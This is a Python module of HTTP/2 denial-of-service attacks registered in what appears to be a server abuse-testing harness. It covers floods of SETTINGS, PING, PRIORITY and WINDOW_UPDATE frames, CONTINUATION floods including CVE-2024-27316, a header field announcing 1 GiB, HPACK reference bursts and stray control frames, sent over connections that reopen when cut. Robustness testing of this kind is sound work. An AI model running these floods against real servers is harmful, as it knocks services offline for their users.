"""Attacks by frames that cost the sender nothing: floods of control frames, empty frames and pieces of headers."""

import time

from abuse_harness import attack
from abuse_http2 import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, Connection, Crowd, frame, header_block, indexed, literal,
    settings, window_update)


def flood(context, block, start=b"", connections=4, reads=True):
    """Sends the same bytes repeatedly, on connections that are opened again when they are cut."""
    sent = [0]

    def refill(connection):
        sent[0] += len(block)
        return block

    def make():
        connection = Connection(
            context.port, source=context.source, reads=reads, refill=refill,
            receive_buffer=None if reads else 2_048)
        connection.push(start)
        return connection

    crowd = Crowd(make, connections, reopens_per_second=100)
    crowd.run(context.until)
    context.note(f"{sent[0] >> 20} MiB, {crowd.cuts} cuts")


OPEN = frame(HEADERS, END_HEADERS, 1, header_block("SetBatch"))


@attack("settings-flood", "floods", seconds=8)
def settings_flood(context):
    """SETTINGS, each of which needs an acknowledgement."""
    flood(context, settings([(INITIAL_WINDOW_SIZE, 65_535)]) * 500)


@attack("settings-unread", "floods", seconds=8, is_about_memory=True)
def settings_unread(context):
    """SETTINGS whose acknowledgements are not read."""
    flood(context, settings() * 1_000, connections=context.choose(40, 16), reads=False)


@attack("window-churn", "floods", seconds=8)
def window_churn(context):
    """SETTINGS that change the initial window of 1,000 open streams up and down."""
    opened = b"".join(frame(HEADERS, END_HEADERS, stream, header_block("Get")) for stream in range(1, 2_000, 2))
    flood(context, settings([(INITIAL_WINDOW_SIZE, 0)]) + settings([(INITIAL_WINDOW_SIZE, 1 << 30)]), opened)


@attack("ping-flood", "floods", seconds=8)
def ping_flood(context):
    """PINGs, each of which needs an answer."""
    flood(context, frame(PING, 0, 0, b"12345678") * 500)


@attack("ping-unread", "floods", seconds=8, is_about_memory=True)
def ping_unread(context):
    """PINGs whose answers are not read."""
    flood(context, frame(PING, 0, 0, b"12345678") * 1_000, connections=context.choose(40, 16), reads=False)


@attack("empty-data", "floods", seconds=8)
def empty_data(context):
    """DATA frames without content, and DATA frames of padding alone."""
    flood(context, (frame(DATA, 0, 1) + frame(DATA, 8, 1, b"\x00")) * 300, OPEN)


@attack("priority-flood", "floods", seconds=8)
def priority_flood(context):
    """PRIORITY of streams that were never opened."""
    flood(context, b"".join(
        frame(PRIORITY, 0, stream, b"\x00\x00\x00\x00\x10") for stream in range(1, 2_001, 2)))


@attack("window-update-flood", "floods", seconds=8)
def window_update_flood(context):
    """WINDOW_UPDATE of 1 on an open stream."""
    flood(context, window_update(1, 1) * 800, OPEN)


@attack("unknown-frames", "floods", seconds=8)
def unknown_frames(context):
    """Frames of types that do not exist, empty and of 16 KB."""
    flood(context, frame(0x42, 0, 0) * 500 + frame(0xFA, 255, 1, bytes(16_384)), OPEN)


@attack("empty-continuations", "floods", seconds=8)
def empty_continuations(context):
    """HEADERS without an end, then empty CONTINUATION frames (CVE-2024-27316)."""
    flood(context, frame(CONTINUATION, 0, 1) * 500, frame(HEADERS, 0, 1, header_block("Get")))


@attack("continuation-flood", "floods", seconds=8, is_about_memory=True)
def continuation_flood(context):
    """HEADERS without an end, then CONTINUATION frames of 16 KB of fields."""
    fields = literal("x-field", b"c" * 1_000) * 16
    flood(context, frame(CONTINUATION, 0, 1, fields[:16_384]), frame(HEADERS, 0, 1, header_block("Get")), 8)


@attack("huge-field", "floods", seconds=8, is_about_memory=True)
def huge_field(context):
    """One header field that announces 1 GiB, in CONTINUATION frames."""
    start = frame(HEADERS, 0, 1, header_block("Get") + b"\x00\x01x\x7f\x81\xff\xff\xff\x03")
    flood(context, frame(CONTINUATION, 0, 1, b"c" * 16_384), start, 8)


@attack("costly-bursts", "floods", seconds=10, is_about_memory=True)
def costly_bursts(context):
    """100 connections: 160 KiB of unknown frames, which cost nothing, then 61 KiB of blocks of 440 references each."""
    block = indexed(3) + indexed(6) + literal(":path", "/x") + literal("content-type", "application/grpc")
    block += indexed(21) * 440
    unknown = frame(0x20, 0, 0, bytes(16_375)) * 10

    def burst(connection):
        calls = b""
        while len(calls) < 61 << 10:
            calls += frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(), block)
        return calls + unknown

    def make():
        connection = Connection(context.port, source=context.source)
        connection.push(unknown)
        return connection

    crowd = Crowd(make, context.choose(100, 10), reopens_per_second=20)
    bursts = 0
    while context.remaining() > 0:
        for connection in list(crowd.members.values()):
            if not connection.output and connection.next_stream < 1 << 30:
                connection.push(burst(connection))
                bursts += 1
        crowd.run(min(context.until, time.monotonic() + 0.8))
    context.note(f"{bursts} bursts, {crowd.cuts} cuts")


@attack("stray-frames", "floods", seconds=8)
def stray_frames(context):
    """RST_STREAM, WINDOW_UPDATE, PING and SETTINGS acknowledgements for nothing, and GOAWAY after GOAWAY."""
    flood(context, (
        frame(PING, ACK, 0, b"87654321") + frame(SETTINGS, ACK, 0) + frame(GOAWAY, 0, 0, bytes(8))) * 200)


@attack("stray-resets", "floods", seconds=8)
def stray_resets(context):
    """RST_STREAM and WINDOW_UPDATE on a stream that has ended."""
    start = frame(HEADERS, END_HEADERS | 1, 1, header_block("Get"))
    flood(context, (frame(RST_STREAM, 0, 1, bytes(4)) + frame(WINDOW_UPDATE, 0, 1, b"\x00\x00\x00\x01")) * 200, start)
